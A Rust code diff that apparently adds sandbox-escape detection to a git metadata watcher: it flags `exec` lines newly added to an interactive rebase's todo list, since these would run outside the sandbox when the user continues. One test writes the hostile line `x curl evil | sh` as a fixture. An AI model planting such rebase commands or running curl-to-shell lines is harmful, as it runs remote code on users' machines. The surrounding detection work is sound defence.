@@ -44,6 +44,12 @@ pub struct GitMetadata {
     /// a new repository.
     #[serde(default)]
     pub directories: BTreeSet<PathBuf>,
+    /// Each git directory with the commands its interactive rebase's todo
+    /// list runs (`exec` lines) when the run starts. A rebase the run left
+    /// stopped with new ones would run them at the user's `git rebase
+    /// --continue`, outside the sandbox.
+    #[serde(default)]
+    pub rebase_commands: Vec<(PathBuf, Vec<String>)>,
 }
 
 /// The rule the kernel profiles name for git metadata.
@@ -189,6 +195,7 @@ impl GitMetadata {
         }
         let protected: Vec<PathBuf> = PROTECTED.iter().map(|name| git_dir.join(name)).collect();
         self.protect(&protected);
+        self.rebase_commands.push((git_dir.to_path_buf(), rebase_commands(git_dir)));
         let mut reach = Reach::default();
         for name in ["config", "config.worktree"] {
             read_config(&git_dir.join(name), home, 0, &mut reach)?;
@@ -234,6 +241,16 @@ impl GitMetadata {
             out.push(vtpolicy_compiler::profile::model::PathGlob { glob, rule: rule() });
         }
         out
+    }
+
+    /// The todo lists of interactive rebases that now run commands they
+    /// did not when the run started: their `rebase-merge` directories.
+    pub fn new_rebase_commands(&self) -> Vec<PathBuf> {
+        self.rebase_commands
+            .iter()
+            .filter(|(git_dir, before)| rebase_commands(git_dir).iter().any(|command| !before.contains(command)))
+            .map(|(git_dir, _)| git_dir.join("rebase-merge"))
+            .collect()
     }
 
     /// Watched metadata that exists now.
@@ -334,6 +351,29 @@ impl FindQuery for GitEntries {
     fn matches(&self, path: &str) -> bool {
         matches!(path.rsplit('/').next(), Some(".git" | "HEAD"))
     }
+}
+
+/// The commands the todo list of `git_dir`'s interactive rebase runs: its
+/// `exec` (or `x`) lines. A todo list that is not a readable regular file
+/// of at most 1 MiB counts as one unknown command.
+pub(super) fn rebase_commands(git_dir: &Path) -> Vec<String> {
+    let todo = git_dir.join("rebase-merge/git-rebase-todo");
+    let meta = match std::fs::symlink_metadata(&todo) {
+        Ok(meta) => meta,
+        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Vec::new(),
+        Err(_) => return vec!["(unreadable todo list)".to_owned()],
+    };
+    let text = match meta.is_file() && meta.len() <= MAX_CONFIG {
+        true => std::fs::read(&todo).ok(),
+        false => None,
+    };
+    let Some(text) = text else { return vec!["(unreadable todo list)".to_owned()] };
+    String::from_utf8_lossy(&text)
+        .lines()
+        .map(str::trim)
+        .filter(|line| matches!(line.split_whitespace().next(), Some("exec" | "x")))
+        .map(str::to_owned)
+        .collect()
 }
 
 fn read_gitfile(path: &Path) -> Option<PathBuf> {
@@ -647,5 +687,23 @@ mod tests {
         std::os::unix::fs::symlink("../planted", ws.join("m/.git")).expect("symlink");
         let created = found.new_repositories(&HostFileSystem, &ws).expect("searched");
         assert_eq!(created, vec![ws.join("m/.git")]);
+    }
+
+    #[test]
+    fn a_rebase_left_with_new_commands_is_found() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let ws = dir.path().canonicalize().expect("canonical");
+        std::fs::create_dir_all(ws.join(".git/rebase-merge")).expect("mkdir");
+        let todo = ws.join(".git/rebase-merge/git-rebase-todo");
+        std::fs::write(&todo, "pick 1234 one\nexec make test\n").expect("write");
+        let found = GitMetadata::find_with(&HostFileSystem, &ws, &ws, &[]).expect("searched");
+        // The user's own `--exec` stays, and so do edits without commands.
+        std::fs::write(&todo, "# exec in a comment\npick 1234 one\nexec make test\nbreak\n").expect("write");
+        assert!(found.new_rebase_commands().is_empty());
+        std::fs::write(&todo, "pick 1234 one\nexec make test\n  x curl evil | sh\n").expect("write");
+        assert_eq!(found.new_rebase_commands(), vec![ws.join(".git/rebase-merge")]);
+        std::fs::remove_file(&todo).expect("rm");
+        nix::unistd::mkfifo(&todo, nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
+        assert_eq!(found.new_rebase_commands(), vec![ws.join(".git/rebase-merge")]);
     }
 }
